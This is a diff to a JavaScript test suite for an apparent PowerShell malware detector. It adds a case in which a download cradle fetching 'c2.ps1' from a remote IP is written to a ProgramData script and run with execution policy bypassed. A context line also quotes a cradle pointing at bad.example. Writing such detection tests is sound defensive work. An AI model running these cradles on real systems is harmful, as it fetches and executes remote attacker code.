@@ -195,6 +195,14 @@ describe('strings that only mention execution', () => {
       'download_execute',
     );
   });
+  it('follows code kept in a here-string, written to a script with Set-Content and run', () => {
+    const script = "$ps = @'\n$wc = New-Object Net.WebClient\niex $wc.DownloadString('http://203.0.113.12/c2.ps1')\n'@\n";
+    const run =
+      'Set-Content -Path "$env:ProgramData\\upd.ps1" -Value $ps\npowershell -ExecutionPolicy Bypass -File "$env:ProgramData\\upd.ps1"';
+    expect(codes(script + run, 'powershell')).toContain('download_execute');
+    const benign = "$ps = @'\nGet-Service | Where-Object Status -eq Stopped\n'@\n";
+    expect(codes(benign + run, 'powershell')).not.toContain('download_execute');
+  });
   it('treats a variable holding a quoted note about a cradle as data when it is only written out', () => {
     const note = "$note = @'\nIncident 4411: attacker ran\n  IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a')\n'@\n";
     expect(codes(note + 'Add-Content -Path C:\\ProgramData\\MSP\\notes.txt -Value $note', 'powershell')).not.toContain('download_execute');
